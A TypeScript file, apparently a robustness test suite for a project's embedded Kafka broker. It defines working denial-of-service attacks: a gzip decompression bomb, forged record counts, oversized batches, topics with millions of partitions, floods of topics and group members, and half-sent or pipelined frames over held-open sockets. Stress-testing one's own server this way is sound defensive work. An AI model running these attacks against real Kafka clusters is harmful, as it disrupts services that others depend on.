import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import { frame } from '../../../source/embedded/kafka/bytes/frame.ts';
import { KafkaConnection } from '../../../source/embedded/kafka/client/kafka-connection.ts';
import { createPartitions } from '../../../source/embedded/kafka/messages/create-partitions.ts';
import { createTopics } from '../../../source/embedded/kafka/messages/create-topics.ts';
import { deleteRecords } from '../../../source/embedded/kafka/messages/delete-records.ts';
import { deleteTopics } from '../../../source/embedded/kafka/messages/delete-topics.ts';
import { describeConfigs } from '../../../source/embedded/kafka/messages/describe-configs.ts';
import { fetch } from '../../../source/embedded/kafka/messages/fetch.ts';
import { joinGroup } from '../../../source/embedded/kafka/messages/join-group.ts';
import { listOffsets } from '../../../source/embedded/kafka/messages/list-offsets.ts';
import { metadata } from '../../../source/embedded/kafka/messages/metadata.ts';
import { offsetFetch } from '../../../source/embedded/kafka/messages/offset-fetch.ts';
import { produce } from '../../../source/embedded/kafka/messages/produce.ts';
import { crc32c } from '../../../source/embedded/kafka/records/crc32c.ts';
import { encodeBatch } from '../../../source/embedded/kafka/records/encode-batch.ts';
import { inParallel } from './api-client.ts';
import type { LoopAttack, Target } from './attack.ts';

const topic = 'loop-attack';
const times = (count: number, scale: number) => Math.max(1, Math.round(count * scale));

function dial(address: string): Promise<Socket> {
  const [host, port] = address.split(':');
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), host);
    socket.once('connect', () => resolve(socket));
    socket.once('error', reject);
    socket.on('error', () => {});
  });
}

async function open(target: Target): Promise<KafkaConnection> {
  return KafkaConnection.open(await dial(target.bootstrap), { clientId: 'loop-attack', timeoutMs: 20_000 });
}

/** A refusal or a broken connection counts as an answer. */
async function quietly(work: Promise<unknown>): Promise<void> {
  await work.catch(() => {});
}

/** Runs `use` with a connection to the leader of the topic's first partition; creates the topic before and deletes it afterwards. */
async function withTopic(
  target: Target,
  config: Readonly<Record<string, string>>,
  use: (leader: KafkaConnection) => Promise<void>,
): Promise<void> {
  const name = topic;
  await overController(target, (controller) =>
    controller.call(createTopics, {
      topics: [
        {
          name,
          numPartitions: 4,
          replicationFactor: 1,
          configs: Object.entries(config).map(([key, value]) => ({ name: key, value })),
        },
      ],
      timeoutMs: 10_000,
    }),
  );
  try {
    await overLeader(target, use);
  } finally {
    await overController(target, (controller) =>
      controller.call(deleteTopics, {
        topics: [{ name, topicId: zeroId }],
        topicNames: [name],
        timeoutMs: 10_000,
      }),
    );
  }
}

const zeroId = 'AAAAAAAAAAAAAAAAAAAAAA';

async function overBroker(
  target: Target,
  which: (answer: Awaited<ReturnType<typeof metadataOf>>) => number | undefined,
  use: (connection: KafkaConnection) => Promise<unknown>,
): Promise<void> {
  const first = await open(target);
  try {
    const answer = await metadataOf(first);
    const broker = answer.brokers.find(({ nodeId }) => nodeId === which(answer));
    if (!broker) return;
    const connection = await open({ ...target, bootstrap: `${broker.host}:${broker.port}` });
    try {
      await quietly(use(connection));
    } finally {
      connection.close();
    }
  } finally {
    first.close();
  }
}

const metadataOf = (connection: KafkaConnection) =>
  connection.call(metadata, { topics: [{ name: topic }], allowAutoTopicCreation: false });

const overController = (target: Target, use: (connection: KafkaConnection) => Promise<unknown>) =>
  overBroker(target, (answer) => answer.controllerId, use);
const overLeader = (target: Target, use: (connection: KafkaConnection) => Promise<unknown>) =>
  overBroker(
    target,
    (answer) => answer.topics[0]?.partitions.find(({ partitionIndex }) => partitionIndex === 0)?.leaderId,
    use,
  );

function produceTo(connection: KafkaConnection, records: readonly Buffer[]): Promise<unknown> {
  return connection.call(produce, {
    acks: 1,
    timeoutMs: 10_000,
    topicData: [{ name: topic, partitionData: records.map((batch) => ({ index: 0, records: batch })) }],
  });
}

/** A batch whose content is `plain`, compressed: `count` records, whatever the content is. */
function compressedBatch(plain: Buffer, count: number): Buffer {
  const batch = encodeBatch([{ key: 'k', value: 'v', timestamp: Date.now() }], { compression: 'gzip' });
  const head = Buffer.from(batch.subarray(0, 61));
  const whole = Buffer.concat([head, gzipSync(plain)]);
  whole.writeInt32BE(whole.length - 12, 8);
  whole.writeInt32BE(count - 1, 23);
  whole.writeInt32BE(count, 57);
  whole.writeUInt32BE(crc32c(whole, 21), 17);
  return whole;
}

/** Records of seven bytes: no key, no value. */
const tinyRecords = (count: number) => Buffer.alloc(count * 7, Buffer.from([12, 0, 0, 0, 1, 1, 0]));
const partitions = (count: number) => Array.from({ length: count }, (_, index) => index % 4);

const requests: Record<string, (leader: KafkaConnection, scale: number) => Promise<unknown>> = {
  'kafka-list-offsets': (leader, scale) =>
    leader.call(listOffsets, {
      replicaId: -1,
      isolationLevel: 0,
      topics: [
        {
          name: topic,
          partitions: partitions(times(200_000, scale)).map((partitionIndex) => ({
            partitionIndex,
            timestamp: 1,
          })),
        },
      ],
    }),
  'kafka-list-offsets-within-bounds': (leader, scale) =>
    leader.call(listOffsets, {
      replicaId: -1,
      isolationLevel: 0,
      topics: [
        {
          name: topic,
          partitions: partitions(times(29_000, scale)).map((partitionIndex) => ({
            partitionIndex,
            timestamp: 1,
          })),
        },
      ],
    }),
  'kafka-delete-records': (leader, scale) =>
    leader.call(deleteRecords, {
      timeoutMs: 5000,
      topics: [
        {
          name: topic,
          partitions: partitions(times(29_000, scale)).map((partitionIndex) => ({
            partitionIndex,
            offset: 0,
          })),
        },
      ],
    }),
  'kafka-describe-configs': (leader, scale) =>
    leader.call(describeConfigs, {
      resources: Array.from({ length: times(29_000, scale) }, () => ({
        resourceType: 2,
        resourceName: topic,
        configurationKeys: null,
      })),
    }),
  'kafka-offset-fetch': (leader, scale) =>
    leader.call(offsetFetch, {
      groupId: topic,
      topics: [{ name: topic, partitionIndexes: partitions(times(29_000, scale)) }],
      groups: [
        { groupId: topic, topics: [{ name: topic, partitionIndexes: partitions(times(29_000, scale)) }] },
      ],
    }),
  'kafka-fetch-many': (leader, scale) =>
    leader.call(
      fetch,
      {
        replicaId: -1,
        maxWaitMs: 10,
        minBytes: 1,
        maxBytes: 50_000_000,
        topics: [
          {
            topic,
            partitions: partitions(times(29_000, scale)).map((partition) => ({
              partition,
              fetchOffset: 0,
              partitionMaxBytes: 1_000_000,
            })),
          },
        ],
      },
      { version: 11 },
    ),
  'kafka-metadata-repeated': (leader, scale) =>
    leader.call(metadata, { topics: Array.from({ length: times(29_000, scale) }, () => ({ name: topic })) }),
};

const requestAttacks: LoopAttack[] = Object.entries(requests).map(([name, request]) => ({
  name,
  run: (target, scale) =>
    withTopic(target, {}, async (leader) => {
      await produceTo(leader, [encodeBatch([{ value: 'v', timestamp: 1 }])]);
      await quietly(request(leader, scale));
    }),
}));

const produceAttacks: LoopAttack[] = [
  {
    name: 'kafka-produce-many-batches',
    run: (target, scale) =>
      withTopic(target, {}, async (leader) => {
        const batch = encodeBatch([{ value: Buffer.alloc(500_000), timestamp: Date.now() }]);
        await produceTo(
          leader,
          Array.from({ length: times(60, scale) }, () => Buffer.from(batch)),
        );
        for (let round = 0; round < 5; round++)
          await leader.call(
            fetch,
            {
              replicaId: -1,
              maxWaitMs: 10,
              minBytes: 1,
              maxBytes: 100_000_000,
              topics: [
                { topic, partitions: [{ partition: 0, fetchOffset: 0, partitionMaxBytes: 100_000_000 }] },
              ],
            },
            { version: 11 },
          );
      }),
  },
  {
    name: 'kafka-produce-huge-batch',
    run: (target, scale) =>
      withTopic(target, { 'max.message.bytes': '100000000' }, async () => {
        for (const bytes of [90_000_000, 30_000_000, 15_000_000]) {
          const value = Buffer.alloc(times(bytes, scale));
          // A request that is too large costs its connection.
          await overLeader(target, (one) => produceTo(one, [encodeBatch([{ value, timestamp: 1 }])]));
        }
      }),
  },
  {
    name: 'kafka-compressed-bomb',
    run: (target, scale) =>
      withTopic(target, { 'cleanup.policy': 'compact' }, async (leader) => {
        for (const bytes of [200_000_000, 30_000_000, 7_000_000])
          await quietly(produceTo(leader, [compressedBatch(Buffer.alloc(times(bytes, scale)), 1)]));
      }),
  },
  {
    name: 'kafka-tiny-records',
    run: (target, scale) =>
      withTopic(target, { 'cleanup.policy': 'compact' }, async (leader) => {
        for (const count of [4_000_000, 1_000_000, 99_000])
          await quietly(
            produceTo(leader, [compressedBatch(tinyRecords(times(count, scale)), times(count, scale))]),
          );
        const asked = {
          replicaId: -1,
          isolationLevel: 0,
          topics: [{ name: topic, partitions: [{ partitionIndex: 0, timestamp: 1 }] }],
        };
        for (let round = 0; round < 20; round++) await quietly(leader.call(listOffsets, asked));
      }),
  },
];

const topicAttacks: LoopAttack[] = [
  {
    name: 'kafka-topic-of-a-million-partitions',
    async run(target) {
      for (const numPartitions of [1_000_000, 2 ** 31 - 1])
        await overController(target, (controller) =>
          controller.call(createTopics, {
            topics: [{ name: topic, numPartitions, replicationFactor: 3 }],
            timeoutMs: 10_000,
          }),
        );
    },
  },
  {
    name: 'kafka-topic-of-thousands-of-partitions',
    async run(target, scale) {
      await withTopic(target, {}, async () => {
        await overController(target, (controller) =>
          controller.call(createPartitions, {
            topics: [{ name: topic, count: times(3500, scale), assignments: null }],
            timeoutMs: 20_000,
            validateOnly: false,
          }),
        );
        await overLeader(target, (leader) =>
          inParallel(20, 4, () => leader.call(metadata, { topics: null })),
        );
      });
    },
  },
  {
    name: 'kafka-many-topics',
    async run(target, scale) {
      const names = Array.from({ length: times(1000, scale) }, (_, index) => `${topic}-${index}`);
      await overController(target, (controller) =>
        controller.call(createTopics, {
          topics: names.map((name) => ({ name, numPartitions: 1, replicationFactor: 1 })),
          timeoutMs: 20_000,
        }),
      );
      await overController(target, (controller) =>
        controller.call(deleteTopics, {
          topics: names.map((name) => ({ name, topicId: zeroId })),
          topicNames: names,
          timeoutMs: 20_000,
        }),
      );
    },
  },
  {
    name: 'kafka-many-members',
    async run(target, scale) {
      const sockets: KafkaConnection[] = [];
      await inParallel(times(200, scale), 16, async () => {
        const connection = await open(target);
        sockets.push(connection);
        void quietly(
          connection.call(
            joinGroup,
            {
              groupId: topic,
              sessionTimeoutMs: 6000,
              rebalanceTimeoutMs: 6000,
              memberId: '',
              groupInstanceId: null,
              protocolType: 'consumer',
              protocols: [{ name: 'range', metadata: Buffer.alloc(500_000) }],
            },
            { version: 2, timeoutMs: 8000 },
          ),
        );
      });
      await new Promise((resolve) => setTimeout(resolve, 7000 * Math.min(1, scale)));
      for (const socket of sockets) socket.close();
    },
  },
];

const frameAttacks: LoopAttack[] = [
  {
    name: 'kafka-half-frames',
    async run(target, scale) {
      const half = Buffer.alloc(10_000_000);
      half.writeInt32BE(20_000_000);
      await holdOpen(target.bootstrap, times(40, scale), half);
    },
  },
  {
    name: 'kafka-pipelined-requests',
    async run(target, scale) {
      const request = frame((writer) => {
        writer.int16(3);
        writer.int16(1);
        writer.int32(1);
        writer.int16(-1);
        writer.int32(-1);
      });
      await holdOpen(
        target.bootstrap,
        times(40, scale),
        Buffer.concat(Array.from({ length: 5000 }, () => request)),
      );
    },
  },
  {
    name: 'kafka-arrays-beyond-their-bytes',
    async run(target, scale) {
      const body = Buffer.alloc(times(20_000_000, scale));
      const request = frame((writer) => {
        writer.int16(2);
        writer.int16(1);
        writer.int32(1);
        writer.int16(-1);
        writer.int32(-1);
        writer.int32(1);
        writer.int16(0);
        writer.int32(Math.floor(body.length / 12));
        writer.raw(body);
      });
      await holdOpen(target.bootstrap, 4, request);
    },
  },
];

/** Sends the same bytes over this many connections, which stay open for a moment and are not read. */
export async function holdOpen(address: string, count: number, bytes: Buffer): Promise<void> {
  const sockets = await Promise.all(Array.from({ length: count }, () => dial(address)));
  for (const socket of sockets) {
    socket.pause();
    socket.write(bytes);
  }
  await new Promise((resolve) => setTimeout(resolve, 3000));
  for (const socket of sockets) socket.destroy();
}

/** Frames, arrays, batches, topics and groups. */
export const kafkaAttacks: readonly LoopAttack[] = [
  ...frameAttacks,
  ...requestAttacks,
  ...produceAttacks,
  ...topicAttacks,
];
